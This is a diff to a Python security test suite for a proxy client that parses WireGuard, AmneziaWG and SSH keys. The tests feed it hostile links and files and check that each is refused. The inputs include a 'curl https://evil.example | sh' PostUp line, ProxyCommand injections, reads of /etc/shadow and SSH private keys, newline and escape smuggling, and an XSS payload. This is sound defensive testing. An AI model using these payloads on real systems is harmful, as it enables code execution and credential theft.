@@ -18,6 +18,7 @@ import zlib
 from collections.abc import AsyncIterator, Iterator, Sequence
 from functools import partial
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 
@@ -55,7 +56,7 @@ from tests.support.dashboard import Browser, dashboard
 from tests.support.fetched import Servers, servers
 from tests.support.list_source import Answer, endless, page, redirect, zipped
 from tests.support.rows import each_row
-from tests.wire.keys.made_keys import PBK, UUID, b64, vmess_link
+from tests.wire.keys.made_keys import PBK, UUID, WG_KEY, WG_PEER, b64, vmess_link
 
 __all__ = ["servers"]
 
@@ -82,6 +83,9 @@ _FIELDS = frozenset(
 """What an outbound of the engine may have."""
 
 
+_OF_PEER = frozenset(("server", "port", "public-key", "pre-shared-key", "allowed-ips"))
+
+
 def check_engine_gets(key: Key) -> None:
     """Checks what the engine gets of a key: one outbound with fields of the table, to Byway or to a given address."""
     address = "203.0.113.7" if key.protocol.is_over_udp else ""
@@ -92,6 +96,15 @@ def check_engine_gets(key: Key) -> None:
     assert outbound["server"] == (address or PLACE)
     assert outbound.get("dialer-proxy", "") == ("" if address else "to-k1")
     assert [way["server"] for way in ways] == ([] if address else ["127.0.0.1"])
+    for peer in outbound.get("peers", ()):
+        assert set(peer) <= _OF_PEER, set(peer) - _OF_PEER
+        assert (peer["server"], peer["port"]) == (address, key.server.port)
+    assert len(outbound.get("peers", ())) == (outbound["type"] == "wireguard")
+    assert (
+        "PRIVATE KEY" in outbound.get("private-key", "") or outbound["type"] != "ssh" or "private-key" not in outbound
+    )
+    lines = [*map(str, outbound.get("amnezia-wg-option", {}).values()), *outbound.get("host-key", ())]
+    assert all(line.isprintable() for line in lines), lines
     assert made["rules"] == ["IN-USER,k1,k1", "MATCH,REJECT"]
     assert len(made["listeners"]) == 1
 
@@ -406,6 +419,215 @@ def test_the_file_of_a_subscription(tries: str, file: str, said: str) -> None:
     assert ("becomes: " in found) is becomes, found[:500]
 
 
+# -- by WireGuard, AmneziaWG and SSH, and by alt= ----------------------------------------------------------------------
+
+HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA"
+SSH = f"ssh://me:{SECRET}@{AT}?host-key={quote(HOST_KEY)}"
+WG = f"wg://{quote(WG_KEY, safe='')}@{AT}?publickey={quote(WG_PEER, safe='')}&address=10.0.0.2"
+AWG = f"{WG}&jc=4&jmin=40&jmax=70"
+TWO = f"[Peer]\nPublicKey = {WG_PEER}\nEndpoint = 127.0.0.1:51820"
+ONLY_PEM = "a private key of SSH is taken as text, not by the name of a file"
+ALT = "alt= takes HOST:PORT, another name or address of the same relay"
+
+
+def conf(interface: str = "", peer: str = "", at: str = AT) -> str:
+    """A configuration of WireGuard with further lines in its two sections."""
+    return (
+        f"[Interface]\nPrivateKey = {WG_KEY}\nAddress = 10.0.0.2/32\n{interface}\n"
+        f"[Peer]\nPublicKey = {WG_PEER}\nEndpoint = {at}\n{peer}\n"
+    )
+
+
+def tunnel(**fields: object) -> str:
+    """A Clash configuration with a key of WireGuard."""
+    return of_clash({"type": "wireguard", "private-key": WG_KEY, "public-key": WG_PEER, "ip": "10.0.0.2"}, fields)
+
+
+def shell(**fields: object) -> str:
+    """A Clash configuration with a key of SSH."""
+    return of_clash({"type": "ssh", "username": "me", "password": SECRET, "host-key": [HOST_KEY]}, fields)
+
+
+def of_clash(entry: dict[str, object], fields: dict[str, object]) -> str:
+    """A Clash configuration with one key. In the names of `fields` _ stands for -."""
+    named = {name.replace("_", "-"): value for name, value in fields.items()}
+    return f"proxies:\n  - {json.dumps({'name': 'K', 'server': 'k.example', 'port': 443} | entry | named)}\n"
+
+
+def peer(server: str) -> dict[str, object]:
+    return {"server": server, "port": 443, "public-key": WG_PEER}
+
+
+TUNNEL_LINKS: list[tuple[str, str, str]] = [
+    # second servers
+    ("a server of its own", f"{WG}&endpoint=127.0.0.1:51820", f"field endpoint {UNKNOWN}"),
+    ("a peer", f"{WG}&peer.endpoint=127.0.0.1:51820", f"field peer.endpoint {UNKNOWN}"),
+    ("peers", f"{WG}&peers=127.0.0.1", f"field peers {UNKNOWN}"),
+    ("a name server in the local network", f"{WG}&dns=127.0.0.1#W", "becomes: wireguard://relay.example:443 as W"),
+    ("another proxy on the way", f"{WG}&dialer-proxy=tor", f"field dialer-proxy {UNKNOWN}"),
+    ("the same by ssh", f"{SSH}&dialer-proxy=tor", f"field dialer-proxy {UNKNOWN}"),
+    ("a host to jump over", f"{SSH}&ProxyJump=evil.example", f"field ProxyJump {UNKNOWN}"),
+    # commands and files
+    ("a command of WireGuard's own program", f"{WG}&postup=id", f"field postup {UNKNOWN}"),
+    ("a table of routes", f"{WG}&table=auto", f"field table {UNKNOWN}"),
+    ("a port to listen on", f"{WG}&listenport=53", f"field listenport {UNKNOWN}"),
+    ("a file in place of a packet", f"{AWG}&i1=file%3A%2F%2F%2Fetc%2Fpasswd", "field i1 is not a packet"),
+    ("a program on the way", f"{SSH}&proxycommand=sh%20-c%20id", f"field proxycommand {UNKNOWN}"),
+    ("the same as ssh spells it", f"{SSH}&ProxyCommand=id", f"field ProxyCommand {UNKNOWN}"),
+    ("the same as an option", f"{SSH}&o=ProxyCommand%3Did", f"field o {UNKNOWN}"),
+    ("the same as a host", f"ssh://me:{SECRET}@-oProxyCommand=id:22?host-key={quote(HOST_KEY)}", INVALID),
+    ("the same as a user", SSH.replace("me:", "-oProxyCommand=id:") + "#S", "becomes: ssh://relay.example:443 as S"),
+    ("a command here", f"{SSH}&LocalCommand=id", f"field LocalCommand {UNKNOWN}"),
+    ("a command there", f"{SSH}&RemoteCommand=id", f"field RemoteCommand {UNKNOWN}"),
+    ("a file with a private key", f"{SSH}&IdentityFile=/etc/shadow", f"field IdentityFile {UNKNOWN}"),
+    ("the same in its own field", f"{SSH}&pk=/etc/shadow", ONLY_PEM),
+    ("the same in the home folder", f"{SSH}&pk=~/.ssh/id_rsa", ONLY_PEM),
+    ("the same by its URL", f"{SSH}&pk=file%3A%2F%2F%2Fetc%2Fshadow", ONLY_PEM),
+    ("the same in a field of sing-box", f"{SSH}&private_key_path=/etc/shadow", f"field private_key_path {UNKNOWN}"),
+    ("a file with host keys", f"ssh://me:x@{AT}?host-key=/etc/ssh/known_hosts", "is not a list of host keys"),
+    ("a command before a host key", f"ssh://me:x@{AT}?host-key=command%3D%22id%22%20{quote(HOST_KEY)}",
+     "is not a list of host keys"),
+    # a weaker connection
+    ("no host key", f"ssh://me:x@{AT}", "it has no host key of its server"),
+    ("any host key", f"ssh://me:x@{AT}?host-key=*", "is not a list of host keys"),
+    ("no check of host keys", f"{SSH}&StrictHostKeyChecking=no", f"field StrictHostKeyChecking {UNKNOWN}"),
+    ("no known hosts", f"{SSH}&known_hosts=/dev/null", f"field known_hosts {UNKNOWN}"),
+    ("a shared key that is none", f"{WG}&presharedkey=x", "field presharedkey is not base64 of 32 bytes"),
+    # injection
+    ("a line in a packet", f"{AWG}&i1=%3Cb%200x00%3E%0aendpoint=127.0.0.1:1", "field i1 is not printable text"),
+    ("a line in a type", f"{AWG}&h1=1%0aendpoint=127.0.0.1:1", "field h1 is not printable text"),
+    ("a line in a list of addresses", f"{WG}&allowedips=0.0.0.0/0%0aendpoint=127.0.0.1:1", "is not printable text"),
+    ("a line in a user", SSH.replace("me:", "me%0aProxyCommand%20id:"), "field user is not printable text"),
+    ("a line in a host key", f"{SSH}%0a{quote(HOST_KEY)}", "field host-key is not printable text"),
+    ("NUL in a private key", f"{SSH}&pk=-----BEGIN%20PRIVATE%20KEY-----%00", "field pk is not printable text"),
+    # sizes
+    ("a flood before each handshake", f"{WG}&jc=100000&jmin=1280&jmax=1280", "field jc is not a number from 0 to 128"),
+    ("a packet of a gigabyte", f"{AWG}&i1=%3Cr%20999999999%3E", "random parts of at most 999 bytes"),
+    ("a size below nothing", f"{AWG}&s1=-1", "field s1 is not a number from 0 to 1280"),
+    ("a type beyond its field", f"{AWG}&h1=5-99999999999", "field h1 is not a number or a range"),
+    ("types that are one", f"{AWG}&h1=1-9&h2=5", "the types of packets (H1 to H4) are not four different ones"),
+    ("a packet at each moment", f"{WG}&keepalive=0.0001", "field keepalive is not a number from 0 to 65535"),
+    ("three hundred networks", f"{WG}&allowedips=" + ",".join(["10.0.0.0/8"] * 300), "a list of at most 256 addresses"),
+    # other addresses
+    ("a file as another address", f"{TROJAN}?alt=file%3A%2F%2F%2Fetc%2Fpasswd", ALT),
+    ("a relay as another address", f"{TROJAN}?alt=socks5h://b.example:1", ALT),
+    ("ports as another address", f"{TROJAN}?alt=b.example:1-65535", ALT),
+    ("a user in another address", f"{TROJAN}?alt=b.example:443@127.0.0.1:443", ALT),
+    ("a path in another address", f"{TROJAN}?alt=b.example:443/x", ALT),
+    ("nothing as another address", f"{TROJAN}?alt=", ALT),
+    ("NUL in another address", f"{TROJAN}?alt=b.example%00.evil.example:443", ALT),
+    ("a line in another address", f"{TROJAN}?alt=b.example:443%0aX", ALT),
+    ("the terminal's escape in another address", f"{TROJAN}?alt=b.example%1b[2J:443", ALT),
+    ("HTML in another address", f"{TROJAN}?alt=%3Cscript%3Ealert(1)%3C/script%3E:443", ALT),
+    ("a chain behind another address", f"{TROJAN}?alt=b.example:443>{EVIL}", "the key contains >"),
+    ("the name of the field in digits", f"{TROJAN}?%61lt=127.0.0.1:22", f"(with a name that is not shown) {UNKNOWN}"),
+    ("the name of the field in capitals", f"{TROJAN}?ALT=127.0.0.1:22", f"field ALT {UNKNOWN}"),
+    ("the field as HTML has it", f"{TROJAN}?sni=a.example&amp;alt=127.0.0.1:22", f"field alt {UNKNOWN}"),
+    ("the field as JSON has it", f"{TROJAN}?sni=a.example\\u0026alt=127.0.0.1:22", f"field alt {UNKNOWN}"),
+    ("the field in the name", f"{TROJAN}#S?alt=127.0.0.1:22", "becomes: trojan://relay.example:443 as"),
+    ("a thousand other addresses", f"{TROJAN}?" + "&".join(f"alt=b{n}.example:1" for n in range(1000)),
+     "a relay has at most 8 alternatives"),
+    ("the server itself", f"{TROJAN}?alt={AT}", f"gives {AT} twice"),
+    ("the same in capitals", f"{TROJAN}?alt=RELAY.example:443", f"gives {AT} twice"),
+]  # fmt: skip
+CONF_KEY = "becomes: wireguard://relay.example:443 as shop/entry-1"
+TUNNEL_KEY = "becomes: wireguard://k.example:443 as shop/K"
+SHELL_KEY = "becomes: ssh://k.example:443 as shop/K"
+TUNNEL_FILES: list[tuple[str, str, str]] = [
+    # second servers
+    ("a second peer", conf(peer=TWO), "field [Peer] has more than one entry"),
+    ("a second server of the peer", conf(peer="Endpoint = 127.0.0.1:51820"), INVALID),
+    ("the same in other letters", conf(peer="endpoint = 127.0.0.1:51820"), INVALID),
+    ("the same in one line", conf(at=f"{AT},127.0.0.1:51820"), INVALID),
+    ("a server in the wrong section", conf("Endpoint = 127.0.0.1:51820"), f"field Endpoint {UNKNOWN}"),
+    ("a section that nobody knows", conf(peer="[Proxy]\nEndpoint = 127.0.0.1:1"),
+     "no section [Interface] and one [Peer]"),
+    ("name servers", conf("DNS = 127.0.0.1\nDNS = evil.example"), CONF_KEY),
+    ("two peers of Clash", tunnel(peers=[peer("k.example"), peer("127.0.0.1")]), "field peers has more than one entry"),
+    ("another server in the peer", tunnel(peers=[peer("127.0.0.1")]), "server and peers.server contradict each other"),
+    ("names by a server of the key", tunnel(remote_dns_resolve=True, dns=["127.0.0.1", "https://evil.example/q"]),
+     TUNNEL_KEY),
+    ("another proxy on the way of packets", tunnel(dialer_proxy="tor"), f"field dialer-proxy: {SECOND}"),
+    ("the same of ssh", shell(dialer_proxy="tor"), f"field dialer-proxy: {SECOND}"),
+    ("another address of ssh", f"{SSH}&alt=192.0.2.9:22#A", f"field alt {UNKNOWN}"),
+    # commands and files
+    ("all commands", conf("PreUp = id\nPostUp = curl https://evil.example | sh\nPreDown = id\nPostDown = id\n"
+                          "Table = 1\nFwMark = 1\nSaveConfig = true\nListenPort = 53"), CONF_KEY),
+    ("another file", conf("Include = /etc/passwd"), f"field Include {UNKNOWN}"),
+    ("a private key by a file", conf("PrivateKeyFile = /etc/shadow"), f"field PrivateKeyFile {UNKNOWN}"),
+    ("the same of Clash", tunnel(private_key="/etc/shadow"), "field private-key is not base64 of 32 bytes"),
+    ("a file of a private key of ssh", shell(private_key="/etc/shadow"), ONLY_PEM),
+    ("one that begins as PEM", shell(private_key="-----BEGIN ../../etc/shadow"), "its private key is not one in PEM"),
+    ("one in two lines", shell(private_key=["-----BEGIN", "/etc/shadow"]), ONLY_PEM),
+    ("a file with a host key", shell(host_key=["/etc/ssh/ssh_host_rsa_key.pub"]), "is not a list of host keys"),
+    ("a program on the way of ssh", shell(proxy_command="id"), f"field proxy-command {UNKNOWN}"),
+    ("the same in the server", shell(server="k.example -oProxyCommand=id"), INVALID),
+    ("a network interface", tunnel(interface_name="eth0", routing_mark=1), TUNNEL_KEY),
+    # a weaker connection
+    ("no host keys", shell(host_key=[]), "it has no host key of its server"),
+    ("an authority for host keys", shell(host_key=[f"@cert-authority * {HOST_KEY}"]), "is not a list of host keys"),
+    # injection
+    ("a line in a host key of Clash", shell(host_key=[f"{HOST_KEY}\n@cert-authority * x"]), "is not printable text"),
+    ("a line in a user of Clash", shell(username="me\nProxyCommand id"), "field username is not printable text"),
+    ("a line in an address", tunnel(ip="10.0.0.2\nlisten_port=1"), "field ip is not printable text"),
+    ("a line in a packet of Clash", tunnel(amnezia_wg_option={"i1": "<b 0x00>\nendpoint=127.0.0.1:1"}),
+     "field amnezia-wg-option.i1 is not printable text"),
+    ("a list in place of a packet", tunnel(amnezia_wg_option={"i1": ["<b 0x00>", "x"]}), "i1 is not one value"),
+    ("a server among the options", tunnel(amnezia_wg_option={"endpoint": "127.0.0.1:1"}),
+     f"field amnezia-wg-option.endpoint {UNKNOWN}"),
+    ("NUL in a server", conf(at=f"{AT}\0"), INVALID),
+    ("the terminal's escape in a server", conf(at=f"{AT}\x1b[2J"), INVALID),
+    ("a file as a server", conf(at="file:///etc/passwd"), INVALID),
+    ("a line of ssh in its greeting", shell(client_version="SSH-2.0-x\r\nX"), f"field client-version {UNKNOWN}"),
+]  # fmt: skip
+
+
+def fields_of_tunnels() -> Iterator[tuple[str, str, str]]:
+    """What ends a line, a value, a string or a request, in each field of the links."""
+    endings = ("%0aEndpoint%20=%20127.0.0.1:1", "%00", '"%2C"server":"127.0.0.1"', "%1b[2J", "%0d%0a%0d%0a",
+               "127.0.0.1:1", "file%3A%2F%2F%2Fetc%2Fpasswd", "%2Fbin%2Fsh%20-c%20id", "k1%2CDIRECT")  # fmt: skip
+    of_amnezia = (*("jc", "jmin", "jmax"), *(f"{it}{n}" for it in "shi" for n in range(1, 5)), "i5")
+    of_wireguard = ("presharedkey", "allowedips", "reserved", "mtu", "keepalive", "dns", "workers", "ip", *of_amnezia)
+    for ending in endings:
+        for field in of_wireguard:
+            yield f"{ending} in {field}", f"{WG}&{field}={ending}", "wireguard://relay.example:443"
+        for field in ("pk", "passphrase", "host-key", "hk"):
+            link = SSH if field not in ("hk", "host-key") else SSH.partition("?")[0] + "?"
+            yield f"{ending} in {field}", f"{link}&{field}={ending}", "ssh://relay.example:443"
+        yield f"{ending} in a user", SSH.replace("me:", f"me{ending}:".replace("/", "%2F")), "ssh://relay.example:443"
+        for link, shown in ((WG, "wireguard"), (SSH, "ssh"), (f"{TROJAN}?sni=a", "trojan")):
+            yield f"{ending} as another address of {shown}", f"{link}&alt={ending}", f"{shown}://relay.example:443"
+
+
+@each_row(("tries", "key", "said"), TUNNEL_LINKS)
+def test_a_tunnel_that_a_person_pastes(tmp_path: Path, tries: str, key: str, said: str) -> None:
+    found = pasted(tmp_path, key)
+    assert said in found, f"{tries}: {found}"
+    check_said(found)
+
+
+@each_row(("tries", "file", "said"), TUNNEL_FILES)
+def test_a_file_with_a_tunnel(tmp_path: Path, tries: str, file: str, said: str) -> None:
+    """Of a subscription; and of a person, who gets the same relay or the same reason."""
+    found = fetched(file)
+    assert said in found, f"{tries}: {found}"
+    check_said(found)
+    assert ("becomes: " in found) is said.startswith("becomes: ")
+    by_hand = pasted(tmp_path, file)
+    if "alt=" not in file:
+        assert said.partition(" as ")[0] in by_hand, f"{tries}: {by_hand}"
+
+
+@each_row(("tries", "link", "relay"), fields_of_tunnels())
+def test_a_field_of_a_tunnel_that_ends_where_it_should_not(tmp_path: Path, tries: str, link: str, relay: str) -> None:
+    """A text in a field without effect leaves the key as it is; every other one refuses it."""
+    found = pasted(tmp_path, link)
+    refused = "cannot be read|not supported|alt= takes HOST:PORT|alt= of a key over UDP has the port of its server"
+    assert re.search(f"becomes: {relay} as |{refused}|{re.escape(LOCAL)}", found), f"{tries}: {found}"
+    assert not re.search(r"becomes: .*(?:127\.|evil)", found)
+    check_said(found)
+
+
 # -- by what a subscription's server answers ---------------------------------------------------------------------------
 
 PATH = "/sub/hunter2hunter2"
@@ -603,6 +825,8 @@ BY_NAME = {
     "tuic": f"tuic://{UUID}:{SECRET}@evil.example:443",
     "vless": f"vless://{UUID}@evil.example:443?security=tls",
     "ss": f"ss://{b64('aes-128-gcm:' + SECRET)}@evil.example:443",
+    "wireguard": WG.replace("relay.example", "evil.example"),
+    "ssh": SSH.replace("relay.example", "evil.example"),
 }
 
 
@@ -637,7 +861,7 @@ async def test_a_name_that_leads_into_the_local_network(tmp_path: Path, protocol
                 via = TcpDialer(poller, lookup, lambda *_: None)
                 dialer = engine.dialer(KeyRelay("k", key, via, lookup, None, 5.0))
                 with pytest.raises(DialError) as caught:
-                    await dialer.dial(Destination("a.example", 443))
+                    await dialer.dial(Destination("9.9.9.9", 443))
             else:
                 with pytest.raises(DialError) as caught:
                     await TcpDialer(poller, lookup, lambda *_: None).dial(key.server)
@@ -748,4 +972,14 @@ async def test_on_the_page_of_relays_a_strangers_text_is_text(at_relays: Browser
 
 
 def test_there_are_enough_attacks() -> None:
-    assert len(KEYS) + len(FILES) + len(ANSWERS) + len(COMMANDS) + len(IMPORTS) + len(BY_NAME) >= 150
+    assert (
+        len(KEYS)
+        + len(TUNNEL_LINKS)
+        + len(FILES)
+        + len(TUNNEL_FILES)
+        + len(ANSWERS)
+        + len(COMMANDS)
+        + len(IMPORTS)
+        + len(BY_NAME)
+        >= 250
+    )
